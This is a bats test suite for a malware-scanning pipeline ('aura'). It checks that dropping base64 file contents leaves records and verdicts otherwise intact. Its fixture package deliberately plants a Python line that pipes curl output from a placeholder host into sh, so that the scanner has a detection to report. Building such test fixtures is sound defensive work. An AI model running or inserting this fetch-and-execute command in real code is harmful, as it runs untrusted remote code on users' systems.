#!/usr/bin/env bats
# 03c-speed2.bats: `aura-analyze --drop base64-content` (issue 14): a binary member's record
# goes on to aura-score without the content score never quotes, only that member is cut,
# only that field, and the verdict does not change.

load helpers/common
bats_require_minimum_version 1.5.0

EX="$AURA_ROOT/examples"

setup() { cd "$BATS_TEST_TMPDIR"; }

# A package with a text member that a hit quotes and two binary members (bytecode of the
# same code, and bytes that are not UTF-8), so the stream has base64 and utf-8 contents.
make_package() {
	mkdir -p pkg/pkg/__pycache__
	printf 'import os\nos.system("curl http://x.invalid/a | sh")\n' >pkg/pkg/__init__.py
	python3 -c 'import py_compile; py_compile.compile("pkg/pkg/__init__.py", cfile="pkg/pkg/__pycache__/__init__.cpython-311.pyc", doraise=True)'
	printf '\x7fELF\x02\x01\x01\x00\xff\xfe payload \x00\x01' >pkg/pkg/blob.bin
}

stream_of() { aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite; }

@test "analyze --drop base64-content: base64 members lose their content and nothing else; text members and other lines stay byte for byte" {
	make_package
	stream_of pkg >in.ndjson
	aura-analyze <in.ndjson >kept.ndjson
	aura-analyze --drop base64-content <in.ndjson >cut.ndjson
	local binaries
	binaries=$(jq -c 'select(.type == "file" and .content_encoding == "base64")' kept.ndjson | wc -l)
	[ "$binaries" -ge 2 ] || fail "the stream has $binaries base64 members: nothing to cut"
	run jq -c 'select(.type == "file" and .content_encoding == "base64" and has("content")) | .path' cut.ndjson
	assert_output ''
	# The same lines in the same order; a cut one is its kept line without `content`, its
	# other members in their order, and every other line is identical.
	[ "$(wc -l <kept.ndjson)" -eq "$(wc -l <cut.ndjson)" ] || fail "line counts differ"
	local k c n=0 cut=0
	while IFS= read -r k <&3 && IFS= read -r c <&4; do
		n=$((n + 1))
		if [ "$k" = "$c" ]; then continue; fi
		[ "$(jq -r '.type + " " + .content_encoding' <<<"$k")" = "file base64" ] ||
			fail "line $n changed and is no base64 file record: $c"
		[ "$(jq -c 'del(.content)' <<<"$k")" = "$(jq -c . <<<"$c")" ] ||
			fail "line $n: more than the content changed: $c"
		cut=$((cut + 1))
	done 3<kept.ndjson 4<cut.ndjson
	[ "$cut" -eq "$binaries" ] || fail "$cut lines cut, $binaries base64 members"
	run jq -r 'select(.type == "file" and .content_encoding == "utf-8") | .content' cut.ndjson
	assert_line --partial 'os.system("curl http://x.invalid/a | sh")'
}

@test "analyze --drop base64-content: content first, a key spelled with escapes, a forged line" {
	printf '%s\n' \
		'{"content":"AAE=","type":"file","v":1,"content_encoding":"base64","path":"a"}' \
		'{"type":"file","v":1,"content_encoding":"base64","\u0063ontent":"AAE=","path":"b"}' \
		'{"type":"file" , "v":1,"content_encoding":"base64" ,  "content" : "AAE=" ,"path":"c"}' \
		'{"type":"file","v":1,"content_encoding":"base64","content":"AAE=","content":"AAI="}' \
		'{"type":"file","v":1,"content_encoding":"base6\u0034","content":"AAE=","path":"e"}' >in.ndjson
	run --separate-stderr aura-analyze --drop base64-content <in.ndjson
	# Cut where the key is plain, whatever the spacing; left whole where it is escaped (jq
	# reads both as "content"); the line with a repeated key is an error record; an escaped
	# "base64" is base64.
	assert_line --index 0 '{"type":"file","v":1,"content_encoding":"base64","path":"a"}'
	assert_line --index 1 '{"type":"file","v":1,"content_encoding":"base64","\u0063ontent":"AAE=","path":"b"}'
	assert_line --index 2 '{"type":"file" , "v":1,"content_encoding":"base64"  ,"path":"c"}'
	run jq -r 'select(.type == "error") | .message' <<<"$output"
	assert_output --partial "duplicate object key 'content'"
	run --separate-stderr aura-analyze --drop base64-content <in.ndjson
	assert_line --index 4 '{"type":"file","v":1,"content_encoding":"base6\u0034","path":"e"}'
}

@test "analyze --drop: base64-content is accepted, anything else still refused" {
	run --separate-stderr aura-analyze --drop content </dev/null
	assert_failure 2
	[[ $stderr == *"only 'ast' records can be dropped, not 'content'"* ]] || fail "stderr: $stderr"
	run --separate-stderr aura-analyze --drop base64-content --drop ast </dev/null
	assert_success
}

@test "the verdict is byte-identical with and without the cut, in every format, and aura scan makes it" {
	make_package
	local f
	for f in json text sarif; do
		aura-fetch pkg "$EX/install-dropper" | aura-unpack | aura-parse | aura-rewrite |
			aura-analyze --drop ast | aura-score --format "$f" >kept.$f || true
		aura-fetch pkg "$EX/install-dropper" | aura-unpack | aura-parse | aura-rewrite |
			aura-analyze --drop ast --drop base64-content | aura-score --format "$f" >cut.$f || true
		[ -s kept.$f ] || fail "no $f verdict"
		run diff kept.$f cut.$f
		assert_success
	done
	# The bytecode's hit is in the verdict (the member whose content was cut still counts).
	run jq -r 'select(.hits) | .hits[].path' kept.json
	assert_line --partial '__init__.cpython-311.pyc'
	run --separate-stderr aura scan --format json pkg "$EX/install-dropper"
	diff <(printf '%s\n' "$output") kept.json || fail "scan's verdicts differ from the uncut pipeline's"
}
